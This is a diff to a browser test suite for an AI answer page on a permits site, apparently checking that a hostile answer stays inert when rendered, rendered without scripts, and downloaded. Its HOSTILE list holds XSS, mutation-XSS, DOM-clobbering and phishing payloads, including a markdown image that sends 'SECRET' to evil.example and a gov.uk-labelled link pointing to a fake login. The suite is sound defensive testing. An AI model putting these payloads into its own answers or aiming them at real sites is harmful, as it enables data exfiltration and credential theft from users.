@@ -102,31 +102,75 @@ describe('an answer', () => {
     await visitor.context.close()
   })
 
-  test('[W28] a hostile answer reaches nobody and does nothing', async () => {
+  test('[W28] a hostile answer reaches nobody and does nothing, however it is cut up and wherever it is read', async () => {
     const visitor = await site.visitor()
     const page = await visitor.begin()
     await ask(page, 'Attack?')
     const question = await site.agent.asked()
-    for (const text of [
-      '![x](https://evil.example/?d=SECRET)\n\n',
-      '<img src="https://evil.example/a" onerror="document.title=1"><svg onload=alert(1)>\n\n',
-      '<script>document.title="taken"</script><form action="https://evil.example"><button>Sign in</button></form>\n\n',
-      '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">\n\n',
-      '[a](javascript:alert(1)) [b](https://evil.example) <https://evil.example>\n\n',
-      'Last.',
-    ]) {
-      question.say(text)
-    }
+    // A letter at a time, so that every construct is cut at every place.
+    for (const letter of HOSTILE) question.say(letter)
     question.finish()
     await until(page, 'Last.')
     await until(page, 'This answer was written by AI')
+    const address = page.url()
+    await page.reload()
+    await until(page, 'Last.')
     expect(await page.title()).toBe('Ask the assistant – Ask about permits')
-    expect(await page.locator('#messages').locator('img, svg, script, style, base, meta, button').count()).toBe(0)
-    expect(await page.locator('#messages a').allInnerTexts()).toEqual(['b (evil.example)'])
-    expect(visitor.faults).toEqual([])
+    await expectHarmless(page)
+    const plain = await visitor.tab(address)
+    await plain.route('**/*.js', (route) => route.abort())
+    await plain.reload()
+    await until(plain, 'Last.')
+    await expectHarmless(plain)
+    const saved = await visitor.context.newPage()
+    const { body } = await downloaded(page)
+    // As from a disk: with the policy that the file itself brings, and no other.
+    await saved.route('**/saved', (route) => route.fulfill({ contentType: 'text/html', body }))
+    await saved.goto('/saved')
+    await expectHarmless(saved)
+    // Written and read again it is the same, so no parser makes anything else of it.
+    const isStable = await saved.evaluate(() => {
+      const copy = document.createElement('div')
+      copy.innerHTML = document.body.innerHTML
+      return copy.innerHTML === document.body.innerHTML
+    })
+    expect([isStable, visitor.faults]).toEqual([true, []])
     await visitor.context.close()
   })
 })
+
+const HOSTILE = [
+  '![x](https://evil.example/?d=SECRET) ![y][z]\n\n[z]: https://evil.example/z.png\n',
+  '<img src="https://evil.example/a" onerror="document.title=1"><svg onload=alert(1)><video poster="https://evil.example/p">',
+  '<script>document.title="taken"</script><form action="https://evil.example"><button>Sign in</button></form>',
+  '<style>*{display:none;background:url(https://evil.example/s)}</style><base href="https://evil.example/"><link rel=prefetch href="https://evil.example/l">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example"><p id=message name=composer>clobbered',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '[a](javascript:alert(1)) [b](https://evil.example) <https://evil.example> [c](data:text/html,x)',
+  'Session expired. [https://www.gov.uk](https://evil.example/login)',
+  '```html\n<img src=x onerror=alert(1)>\n```',
+  '| <svg/onload=alert(1)> | b |\n|---|---|\n| <iframe src=https://evil.example> | d |',
+  'Last.',
+].join('\n\n')
+
+/** Nothing of it is an element of its kind, and its links say where they lead. */
+async function expectHarmless(page: Page): Promise<void> {
+  const elements = 'img, svg, video, style, base, meta, iframe, math, form[action*=evil], script, #message[name=composer]'
+  const answer = page.locator('.app-message--answer, article.answer').first()
+  expect(await answer.locator(elements).count()).toBe(0)
+  const links = await answer
+    .locator('a:visible')
+    .evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute('href') ?? '']))
+  expect(links.map(([text]) => text)).toEqual([
+    expect.stringMatching(/^b \((?:https:\/\/)?evil\.example\/?\)$/),
+    expect.stringMatching(/^https:\/\/www\.gov\.uk \((?:https:\/\/)?evil\.example(?:\/login)?\)$/),
+  ])
+}
+
+async function downloaded(page: Page): Promise<{ readonly body: string }> {
+  const response = await page.request.get(`${new URL(page.url()).pathname}/download/html`)
+  return { body: await response.text() }
+}
 
 describe('people', () => {
   test('[W25] ask, stop and read on with the keyboard alone', async () => {
